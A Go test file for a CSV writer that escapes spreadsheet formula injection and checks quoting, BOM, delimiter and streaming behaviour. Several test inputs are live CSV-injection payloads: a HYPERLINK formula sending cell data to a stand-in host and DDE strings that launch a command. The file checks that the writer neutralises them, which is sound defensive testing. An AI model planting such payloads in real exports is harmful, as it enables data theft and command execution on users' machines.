package csvx

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
)

func TestEscapeFormula(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"empty", "", ""},
		{"plain text", "Ana Novak", "Ana Novak"},
		{"equals later", "a=1", "a=1"},
		{"digits", "42", "42"},
		{"date", "2026-03-01", "2026-03-01"},
		{"already apostrophe", "'=1", "'=1"},

		{"hyperlink", `=HYPERLINK("https://evil.example/?d="&A1,"Klik")`, `'=HYPERLINK("https://evil.example/?d="&A1,"Klik")`},
		{"dde", `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{"at sum", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"plus one", "+1", "'+1"},
		{"minus formula", "-2+3", "'-2+3"},
		{"minus exponent", "-1e3", "'-1e3"},
		{"lone minus", "-", "'-"},
		{"phone", "+386 1 234 5678", "'+386 1 234 5678"},
		{"tab then formula", "\t=1", "'\t=1"},
		{"tab then text", "\tnote", "'\tnote"},
		{"carriage return", "\r=1", "'\r=1"},
		{"line feed", "\n=1", "'\n=1"},
		{"nul", "\x00=1", "'\x00=1"},
		{"leading spaces", "   =1+1", "'   =1+1"},
		{"leading nbsp", "\u00a0@SUM(A1)", "'\u00a0@SUM(A1)"},
		{"leading zero width space", "\u200b=1", "'\u200b=1"},
		{"leading bom", "\ufeff+1", "'\ufeff+1"},
		{"fullwidth equals", "＝1+1", "'＝1+1"},
		{"spaces then text", "  hello", "  hello"},

		{"negative integer", "-2", "-2"},
		{"negative decimal point", "-0.5", "-0.5"},
		{"negative decimal comma", "-2,5", "-2,5"},
		{"space before negative", " -2", "' -2"},
		{"negative with trailing text", "-2 h", "'-2 h"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := EscapeFormula(tt.in); got != tt.want {
				t.Fatalf("EscapeFormula(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestWriter(t *testing.T) {
	tests := []struct {
		name    string
		setup   func(w *Writer)
		records [][]string
		want    string
	}{
		{
			"defaults",
			func(*Writer) {},
			[][]string{{"name", "hours"}, {"Ana", "-2"}, {"=HYPERLINK(\"x\")", "+1"}},
			"\"name\",\"hours\"\r\n\"Ana\",\"-2\"\r\n\"'=HYPERLINK(\"\"x\"\")\",\"'+1\"\r\n",
		},
		{
			"bom semicolon lf",
			func(w *Writer) { w.BOM, w.Comma, w.UseCRLF = true, ';', false },
			[][]string{{"Čuk", "2,5"}},
			"\uFEFF\"Čuk\";\"2,5\"\n",
		},
		{
			"delimiter inside a cell stays inside quotes",
			func(w *Writer) { w.Comma = ';' },
			[][]string{{"a,=1", "b;@x", "multi\nline"}},
			"\"a,=1\";\"b;@x\";\"multi\nline\"\r\n",
		},
		{
			"empty record and empty field",
			func(*Writer) {},
			[][]string{{}, {""}},
			"\r\n\"\"\r\n",
		},
		{
			"invalid utf8 replaced",
			func(*Writer) {},
			[][]string{{"a\xffb"}},
			"\"a\uFFFDb\"\r\n",
		},
		{
			"bom without records",
			func(w *Writer) { w.BOM = true },
			nil,
			"\uFEFF",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			w := NewWriter(&buf)
			tt.setup(w)
			for _, r := range tt.records {
				if err := w.Write(r); err != nil {
					t.Fatalf("Write(%q): %v", r, err)
				}
			}
			if err := w.Flush(); err != nil {
				t.Fatalf("Flush: %v", err)
			}
			if got := buf.String(); got != tt.want {
				t.Fatalf("output = %q, want %q", got, tt.want)
			}
		})
	}
}

// TestWriterRoundTrip reads the output back with encoding/csv: each cell
// must come back as EscapeFormula of what went in, and no more cells.
func TestWriterRoundTrip(t *testing.T) {
	records := [][]string{
		{"member", "course", "hours", "note"},
		{"=HYPERLINK(\"https://evil.example\",\"x\")", "@SUM(A1:A9)", "-2", "\t=1"},
		{"+1", "-2+3", "-0.5", "say \"hi\", then\r\nleave"},
		{" =1", "a,b", "", "\x00"},
	}
	var buf bytes.Buffer
	w := NewWriter(&buf)
	w.BOM = true
	for _, r := range records {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), bom)))
	got, err := r.ReadAll()
	if err != nil {
		t.Fatalf("ReadAll: %v\n%s", err, buf.String())
	}
	if len(got) != len(records) {
		t.Fatalf("read %d records, want %d", len(got), len(records))
	}
	for i, rec := range records {
		if len(got[i]) != len(rec) {
			t.Fatalf("record %d has %d fields, want %d: %q", i, len(got[i]), len(rec), got[i])
		}
		for j, cell := range rec {
			// encoding/csv turns \r\n inside a quoted field into \n.
			want := strings.ReplaceAll(EscapeFormula(cell), "\r\n", "\n")
			if got[i][j] != want {
				t.Errorf("record %d field %d = %q, want %q", i, j, got[i][j], want)
			}
		}
	}
}

func TestWriterInvalidComma(t *testing.T) {
	for _, c := range []rune{0, '"', '\'', '\r', '\n', -1, 0xFFFD} {
		w := NewWriter(&bytes.Buffer{})
		w.Comma = c
		if err := w.Write([]string{"a"}); !errors.Is(err, ErrInvalidComma) {
			t.Errorf("Comma %q: Write error = %v, want ErrInvalidComma", c, err)
		}
		if err := w.Flush(); !errors.Is(err, ErrInvalidComma) {
			t.Errorf("Comma %q: Flush error = %v, want ErrInvalidComma", c, err)
		}
	}
}

type failWriter struct{ err error }

func (f failWriter) Write([]byte) (int, error) { return 0, f.err }

func TestWriterStickyError(t *testing.T) {
	boom := errors.New("disk full")
	w := NewWriter(failWriter{boom})
	long := strings.Repeat("x", 10000) // larger than the buffer, so Write hits the writer
	if err := w.Write([]string{long}); !errors.Is(err, boom) {
		t.Fatalf("Write error = %v, want %v", err, boom)
	}
	if err := w.Write([]string{"a"}); !errors.Is(err, boom) {
		t.Fatalf("second Write error = %v, want %v", err, boom)
	}
	if err := w.Flush(); !errors.Is(err, boom) {
		t.Fatalf("Flush error = %v, want %v", err, boom)
	}
}

// maxWriteWriter records the largest single write it receives.
type maxWriteWriter struct{ n, max int }

func (m *maxWriteWriter) Write(p []byte) (int, error) {
	m.n += len(p)
	m.max = max(m.max, len(p))
	return len(p), nil
}

// TestWriterStreams checks that a large export goes out in bounded chunks
// as it is written, not held until Flush.
func TestWriterStreams(t *testing.T) {
	var m maxWriteWriter
	w := NewWriter(&m)
	for range 10000 {
		if err := w.Write([]string{"Ana Novak", "Prva pomoč", "-1,5", "=1+1"}); err != nil {
			t.Fatal(err)
		}
	}
	if m.n == 0 {
		t.Fatal("nothing reached the writer before Flush")
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if m.max > 4096 {
		t.Fatalf("largest write = %d bytes, want at most the 4096-byte buffer", m.max)
	}
}
